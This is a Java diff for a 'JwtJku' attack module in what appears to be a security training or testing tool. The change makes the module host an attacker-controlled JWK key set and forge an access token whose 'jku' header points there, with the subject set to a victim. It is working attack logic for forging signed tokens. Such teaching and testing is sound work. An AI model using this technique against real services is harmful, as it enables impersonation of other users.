@@ -1,6 +1,7 @@
 package dev.gatehouse.desktop.attack;
 
 import com.fasterxml.jackson.databind.node.JsonNodeFactory;
+import com.fasterxml.jackson.databind.node.ObjectNode;
 import com.google.auto.service.AutoService;
 import dev.gatehouse.desktop.credential.CredentialException;
 import dev.gatehouse.server.jose.JwsAlgorithm;
@@ -11,6 +12,7 @@ import java.util.List;
 @AutoService(Attack.class)
 public final class JwtJku implements Attack {
   private static final String KID = "dave-1";
+  private static final String PATH = "/keys.json";
 
   @Override
   public AttackCard card() {
@@ -29,18 +31,22 @@ public final class JwtJku implements Attack {
   @Override
   public AttackResult run(Target target) throws InterruptedException {
     ProofKey own = ProofKey.make(JwsAlgorithm.ES256);
-    try (AttackerKeySet keys = AttackerKeySet.publish(own.publicJwk().put("kid", KID))) {
-      target.makes(
-          "Make a key pair, and publish the public key.",
-          "address of the key set",
-          keys.address().toString());
-      return JwtAttack.use(target, forged(target, own, keys));
+    ObjectNode keys = JsonNodeFactory.instance.objectNode();
+    keys.putArray("keys").add(own.publicJwk().put("kid", KID));
+    try (AttackerSite site = AttackerSite.open()) {
+      site.serve(PATH, "application/jwk-set+json", keys.toString());
+      String address =
+          target.makes(
+              "Make a key pair, and publish the public key.",
+              "address of the key set",
+              site.origin() + PATH);
+      return JwtAttack.use(target, forged(target, own, address));
     } catch (CredentialException unreadable) {
       return target.end(false, Events.GAIN);
     }
   }
 
-  private static String forged(Target target, ProofKey own, AttackerKeySet keys)
+  private static String forged(Target target, ProofKey own, String address)
       throws CredentialException {
     String header =
         JsonNodeFactory.instance
@@ -48,7 +54,7 @@ public final class JwtJku implements Attack {
             .put("typ", "at+jwt")
             .put("alg", own.algorithm().text())
             .put("kid", KID)
-            .put("jku", keys.address().toString())
+            .put("jku", address)
             .toString();
     String payload = JwtAttack.ownToken(target).withClaim("sub", Loot.VICTIM).payload();
     return target.makes(
